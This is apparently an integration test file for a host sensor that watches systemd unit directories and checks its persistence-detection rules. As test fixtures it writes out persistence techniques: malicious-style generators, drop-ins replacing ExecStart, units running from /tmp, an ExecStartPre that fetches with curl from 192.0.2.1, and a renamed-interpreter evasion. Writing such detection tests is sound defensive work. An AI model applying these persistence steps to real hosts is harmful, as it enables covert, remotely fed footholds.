/** The companions on a host of its own, by the real sensor: each case alerts by its rule, with the shell that did it, and by no rule that it is not about. */
import { spawnSync } from 'node:child_process';
import { once } from 'node:events';
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import type { Alert, FileEvent } from '../../src/model/event.ts';
import { temporaryDirectory } from '../helpers/events.ts';
import { collect, notRoot, ownHost, TICKWARD, USER, type Child, type OwnHost } from '../helpers/host.ts';
import { jsonLines } from '../helpers/lines.ts';
import { notPrivileged } from '../helpers/sensing.ts';
import { until } from '../helpers/until.ts';

const UNITS = '/etc/systemd/system';

interface Watching {
  host: OwnHost;
  shell: Child;
  alerts(): Alert[];
  events(): FileEvent[];
  /** Ends the sensor, does that, and starts it again. */
  without(script: string): Promise<void>;
}

/** `before`: what is there when the sensor starts, and so is no news. */
async function watching(before: string): Promise<Watching> {
  const host = await ownHost();
  expect(host.run(['sh', '-ec', before]).stderr).toBe('');
  const stateDir = join(temporaryDirectory(), 'state');
  const start = async (): Promise<{ watch: Child; output: ReturnType<typeof collect> }> => {
    const watch = host.start([TICKWARD, 'watch', '--json', '--state-dir', stateDir]);
    const [output, errors] = [collect(watch.stdout), collect(watch.stderr)];
    await until(() => errors.text().includes('watching by'), () => `the start, got ${errors.text()}`);
    return { watch, output };
  };
  let running = await start();
  return {
    host,
    shell: host.start(['sh']),
    alerts: () => jsonLines<Alert>(running.output.text()),
    events: () => jsonLines<FileEvent>(host.run([TICKWARD, 'events', '--json', '--state-dir', stateDir]).stdout),
    async without(script) {
      running.watch.kill('SIGTERM');
      await once(running.watch, 'exit');
      expect(host.run(['sh', '-ec', script]).stderr).toBe('');
      running = await start();
    },
  };
}

/** Alerts of one event come together and events in their order: when that of a later file is there, all before are. */
async function alertsBefore({ shell, alerts }: Watching): Promise<string[]> {
  shell.stdin.write(`echo x > ${UNITS}/zz-later.timer\n`);
  await until(() => alerts().some(({ event }) => event.file.name === 'zz-later.timer'), () => `the last alert, got ${JSON.stringify(alerts().map(({ rule, event }) => [rule.name, event.file.path]))}`);
  return alerts().filter(({ event }) => event.file.name !== 'zz-later.timer').map(({ rule, event }) => `${rule.name}: ${event.event.action} of ${event.file.path}`).sort();
}

const TRANSIENT = 'Systemd Transient Timer Started';
const MODIFIED = 'Systemd Unit Edited in Place';
const DROP_IN = 'Systemd Drop-In Changing Commands or Schedule';
const LINK = 'Systemd Unit Enabled by a Hand-Made Link';
const GENERATOR = 'Systemd Generator Dropped';
const UNUSUAL = 'Systemd Unit Outside the Usual Directories';
const NAME = 'Systemd Unit Created by a Program With an Excluded Name';
const SERVICE = 'Systemd Service Created';
const UNKNOWN = 'Systemd Unit Changed by a Program That Is Not Known';
const COMMAND = 'Systemd Unit Running From a World-Writable Directory or Fetching From the Network';

/** There when the sensor starts: an old service, a program with a name, directories. */
const BEFORE = `
mkdir -p ${UNITS}/old.service.d ${UNITS}/multi-user.target.wants /etc/systemd/system-generators /run/systemd/transient /mnt/home/.config/systemd/user /mnt/bin
printf '[Service]\\nExecStart=/bin/true\\n' > ${UNITS}/old.service
cp /bin/sh /mnt/bin/python3
sed 's:${USER.home}:/mnt/home:' /etc/passwd > /mnt/other
cat /mnt/other > /etc/passwd`;

/** Written beside the unit directories and moved in, so that it is one change however busy the host is. */
function put(path: string, content: string): string {
  const beside = path.replace(/^(\/[^/]+(?:\/systemd(?=\/))?).*/, '$1/new');
  return `printf '${content}' > ${beside}; mv ${beside} ${path}`;
}

const needs = notRoot ?? notPrivileged;

describe.skipIf(needs !== undefined)(`the companions (${needs ?? 'on a host of its own'})`, { timeout: 30_000 }, () => {
  test.each<[string, string, string[]]>([
    ['a transient timer, as the manager writes it or anybody else', put('/run/systemd/transient/run-r1.timer', '[Timer]\\nOnActiveSec=1h\\n'), [`${TRANSIENT}: rename of /run/systemd/transient/run-r1.timer`, `${UNUSUAL}: rename of /run/systemd/transient/run-r1.timer`]],
    ['an edit in place', `echo '# more' >> ${UNITS}/old.service`, [`${MODIFIED}: modification of ${UNITS}/old.service`]],
    ['a drop-in for the command', put(`${UNITS}/old.service.d/x.conf`, '[Service]\\nExecStart=\\nExecStart=/usr/local/bin/x\\n'), [`${DROP_IN}: rename of ${UNITS}/old.service.d/x.conf`]],
    ['a link by hand', `ln -s ../old.service ${UNITS}/multi-user.target.wants/old.service`, [`${LINK}: creation of ${UNITS}/multi-user.target.wants/old.service`]],
    ['a generator', put('/etc/systemd/system-generators/evil', '#!/bin/sh\\n'), [`${GENERATOR}: rename of /etc/systemd/system-generators/evil`]],
    ['a unit in a home elsewhere', put('/mnt/home/.config/systemd/user/x.service', '[Service]\\nExecStart=/bin/true\\n'), [`${UNUSUAL}: rename of /mnt/home/.config/systemd/user/x.service`]],
    ['a service', put(`${UNITS}/x.service`, '[Service]\\nExecStart=/bin/true\\n'), [`${SERVICE}: rename of ${UNITS}/x.service`]],
    ['a service that runs from /tmp', put(`${UNITS}/x.service`, '[Service]\\nExecStart=/bin/sh -c "exec /tmp/x"\\n'), [`${SERVICE}: rename of ${UNITS}/x.service`, `${COMMAND}: rename of ${UNITS}/x.service`]],
    ['a drop-in that fetches', put(`${UNITS}/old.service.d/x.conf`, '[Service]\\nExecStartPre=/usr/bin/curl -o /run/x http://192.0.2.1/\\n'), [`${DROP_IN}: rename of ${UNITS}/old.service.d/x.conf`, `${COMMAND}: rename of ${UNITS}/old.service.d/x.conf`]],
  ])('%s', async (_what, script, expected) => {
    const watch = await watching(BEFORE);
    watch.shell.stdin.write(`${script}\n`);
    expect(await alertsBefore(watch)).toEqual([...expected].sort());
  });

  test('a program that only has the name of an excluded one', async () => {
    const watch = await watching(BEFORE);
    const python = watch.host.start(['/mnt/bin/python3']);
    python.stdin.write(`: > ${UNITS}/hidden.timer\n`);
    await until(() => watch.alerts().length > 0, () => 'the alert');
    // The stock rule leaves it out by its name: that is what the companion is for.
    expect(await alertsBefore(watch)).toEqual([`${NAME}: creation of ${UNITS}/hidden.timer`]);
    expect(watch.alerts()[0]?.event.process).toMatchObject({ name: 'python3', executable: '/mnt/bin/python3', pid: python.pid });
  });

  test('what is planted while nothing watches', async () => {
    const watch = await watching(BEFORE);
    await watch.without(`echo x > ${UNITS}/planted.timer; echo x >> ${UNITS}/old.service; rm ${UNITS}/old.service.d -r; : > ${UNITS}/.hidden`);
    expect(await alertsBefore(watch)).toEqual([`${UNKNOWN}: creation of ${UNITS}/planted.timer`, `${UNKNOWN}: modification of ${UNITS}/old.service`]);
  });

  test('harmless things: a drop-in for a limit, temporary files of editors, a mask', async () => {
    const watch = await watching(BEFORE);
    watch.shell.stdin.write(`printf '[Service]\\nMemoryMax=1G\\n' > ${UNITS}/old.service.d/limit.conf; echo x > ${UNITS}/.old.service.swp; echo x > ${UNITS}/old.service.d/.#override.conf0; ln -s /dev/null ${UNITS}/masked.service\n`);
    expect(await alertsBefore(watch)).toEqual([]);
    expect(watch.events().map(({ file }) => file.name)).toEqual(expect.arrayContaining(['limit.conf', '.old.service.swp', '.#override.conf0', 'masked.service']));
  });

  test.skipIf(spawnSync('dpkg-deb', ['--version']).status !== 0)('a package that brings everything', async () => {
    const watch = await watching(BEFORE);
    const tree = join(temporaryDirectory(), 'package');
    const files: Record<string, string> = {
      'DEBIAN/control': 'Package: tickward-test\nVersion: 1\nArchitecture: all\nMaintainer: nobody\nDescription: ships units\n',
      [`${UNITS}/packaged.service`]: '[Service]\nExecStart=/usr/bin/curl http://example.org/\n',
      [`${UNITS}/old.service.d/packaged.conf`]: '[Service]\nExecStartPre=/bin/true\n',
      'etc/systemd/system-generators/packaged': '#!/bin/sh\n',
      'mnt/home/.config/systemd/user/packaged.timer': '[Timer]\nOnCalendar=daily\n',
    };
    for (const [name, content] of Object.entries(files)) {
      mkdirSync(join(tree, name, '..'), { recursive: true });
      writeFileSync(join(tree, name), content);
    }
    // dpkg and its script live long enough to be named by /proc.
    writeFileSync(join(tree, 'DEBIAN/postinst'), `#!/bin/sh\necho '# more' >> ${UNITS}/old.service\nln -s ../packaged.service ${UNITS}/multi-user.target.wants/\nsleep 0.3\n`, { mode: 0o755 });
    expect(spawnSync('dpkg-deb', ['--build', '--root-owner-group', tree, `${tree}.deb`]).status).toBe(0);
    expect(watch.host.run(['sh', '-ec', 'mount -t tmpfs tmpfs /var/lib/dpkg; mkdir /var/lib/dpkg/info /var/lib/dpkg/updates; : > /var/lib/dpkg/status']).stderr).toBe('');
    const installed = watch.host.run(['dpkg', '--log=/dev/null', '--force-not-root', '--install', `${tree}.deb`]);
    expect(`${installed.stdout}${installed.stderr}`).toContain('Setting up tickward-test');
    expect(await alertsBefore(watch)).toEqual([]);
    const told = new Map(watch.events().map(({ file, process: by }) => [file.path, by?.executable]));
    expect([told.get(`${UNITS}/packaged.service`), told.get('/etc/systemd/system-generators/packaged'), told.has(`${UNITS}/multi-user.target.wants/packaged.service`)]).toEqual(['/usr/bin/dpkg', '/usr/bin/dpkg', true]);
  });
});
